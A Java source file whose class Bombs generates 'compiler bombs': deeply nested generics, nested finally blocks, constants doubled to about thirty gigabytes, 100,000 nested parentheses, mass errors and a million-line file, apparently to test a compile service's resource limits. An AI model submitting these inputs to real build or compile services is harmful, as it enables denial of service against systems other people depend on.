package tangent.attack;

/** Sources that a compiler chokes on. */
final class Bombs {

  private Bombs() {}

  /** Each level doubles what the compiler has to infer. */
  static String generics(String className) {
    String levels = "id(".repeat(300) + "1" + ")".repeat(300);
    return "public final class "
        + className
        + " { static <T> java.util.List<T> id(T t) { return null; } Object o = "
        + levels
        + "; }";
  }

  /** What stands in {@code finally} is compiled twice, once for each way to get there. */
  static String finallies(String className) {
    String levels = "try { g(); } finally { ".repeat(30) + "g();" + " }".repeat(30);
    return "public final class " + className + " { void g() {} void f() { " + levels + " } }";
  }

  /** Thirty doublings of a constant of thirty letters: thirty gigabytes. */
  static String constants(String className) {
    StringBuilder text = new StringBuilder("public final class " + className + " {\n");
    text.append("  static final String C0 = \"").append("x".repeat(30)).append("\";\n");
    for (int i = 1; i <= 30; i++) {
      text.append("  static final String C%d = C%d + C%d;\n".formatted(i, i - 1, i - 1));
    }
    return text + "}\n";
  }

  static String nesting(String className) {
    String levels = "(".repeat(100_000) + "1" + ")".repeat(100_000);
    return "public final class " + className + " { int i = " + levels + "; }";
  }

  /** Two letters an error. */
  static String errors(String className) {
    return "public final class " + className + " { void f() {\n" + "x;\n".repeat(200_000) + "} }";
  }

  static String giant(String className) {
    return "public final class " + className + " {}\n" + "// a line of a giant\n".repeat(1_000_000);
  }
}
